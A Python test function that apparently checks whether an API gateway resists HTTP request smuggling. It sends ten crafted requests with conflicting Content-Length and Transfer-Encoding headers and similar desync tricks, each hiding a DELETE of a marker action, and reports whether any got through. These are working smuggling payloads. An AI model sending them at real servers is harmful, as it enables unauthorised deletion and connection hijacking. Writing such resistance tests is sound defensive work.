def attack():
    hidden = head("DELETE", "/api/v1/namespaces/_/actions/marker", own)
    body = json.dumps({"exec": {"kind": "python:default", "code": "def main(args): return {}"}})
    put = head("PUT", "/api/v1/namespaces/_/actions/marker?overwrite=true", own, f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n") + body
    if status(talk(put)) != 200:
        raise RuntimeError("no marker")
    chunked = "Transfer-Encoding: chunked\r\n"
    ask = lambda more: head("GET", "/api/v1/namespaces/_/actions/own", own, more)
    tries = [
        ask("Connection: keep-alive\r\n") + hidden,
        ask(f"Content-Length: {len(hidden)}\r\n{chunked}") + "0\r\n\r\n" + hidden,
        ask(f"{chunked}Content-Length: 4\r\n") + "0\r\n\r\n" + hidden,
        ask("Transfer-Encoding: xchunked\r\n") + hidden,
        ask("Transfer-Encoding: chunked, identity\r\n") + "0\r\n\r\n" + hidden,
        ask("Transfer-Encoding:\x0bchunked\r\n") + "0\r\n\r\n" + hidden,
        ask("Content-Length: 0\r\nContent-Length: 9\r\n") + hidden,
        ask("Content-Length: +0\r\n") + hidden,
        ask("X: y\nContent-Length: 0\r\n") + hidden,
        ask("Upgrade: x\r\nConnection: Upgrade\r\n") + hidden,
    ]
    answers = [talk(each) for each in tries]
    left = status(talk(head("GET", "/api/v1/namespaces/_/actions/marker", own)))
    # Only successes count: a refusal of what follows the first request is harmless.
    heard = max(answer.count("HTTP/1.1 2") for answer in answers)
    if left != 200 or heard > 1:
        return escaped(f"{heard} answers on one connection; what was to stay: {left}")
    return blocked("refused", f"of {len(tries)} connections none did more than its first request")
